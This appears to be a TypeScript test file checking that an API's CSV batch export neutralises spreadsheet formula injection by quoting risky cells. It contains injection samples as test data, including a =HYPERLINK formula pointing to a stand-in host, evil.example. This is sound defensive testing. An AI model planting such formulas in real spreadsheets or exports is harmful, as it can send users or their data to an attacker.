/**
 * CSV exports escape formula injection (issue 16, item 8): a cell a spreadsheet would run as a
 * formula (starting with =, +, -, @, tab or CR) is written with a leading quote; JSON and JSONL
 * exports keep the values as they are.
 */
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { publishedAgent, startTestServer, type TestServer, waitForBatch } from "../helpers/server.js";

const DANGEROUS = ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx=1", "\rx=1"];

describe("CSV export and formula injection", () => {
  let t: TestServer;
  beforeAll(async () => {
    t = await startTestServer();
  });
  afterAll(async () => t.close());

  it("prefixes formula-like cells with a quote and leaves other cells alone", async () => {
    const agent = await publishedAgent(t);
    const ids = [...DANGEROUS, "plain-id"];
    const created = await t.api("POST", "/api/v1/batches", {
      agent_id: agent,
      requests: ids.map((custom_id) => ({
        custom_id,
        message: `=HYPERLINK("http://evil.example/${custom_id.length}")`,
      })),
    });
    expect(created.status).toBe(202);
    const batchId = created.body.data.id as string;
    await waitForBatch(t, batchId);
    const res = await fetch(`${t.url}/api/v1/batches/${batchId}/results?format=csv`, {
      headers: { "x-api-key": t.key },
    });
    expect(res.status).toBe(200);
    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
    const byId = new Map(rows.map((r) => [r.custom_id.replace(/^'/, ""), r]));
    for (const id of DANGEROUS) expect(byId.get(id)?.custom_id).toBe(`'${id}`);
    expect(byId.get("plain-id")?.custom_id).toBe("plain-id");
    for (const r of rows) expect(r.custom_id).not.toMatch(/^[=+\-@\t\r]/);

    const jsonl = await fetch(`${t.url}/api/v1/batches/${batchId}/results?format=jsonl`, {
      headers: { "x-api-key": t.key },
    });
    const records = (await jsonl.text())
      .trimEnd()
      .split("\n")
      .map((l) => JSON.parse(l) as { custom_id: string });
    expect(records.map((r) => r.custom_id).sort()).toEqual([...ids].sort());
  });
});
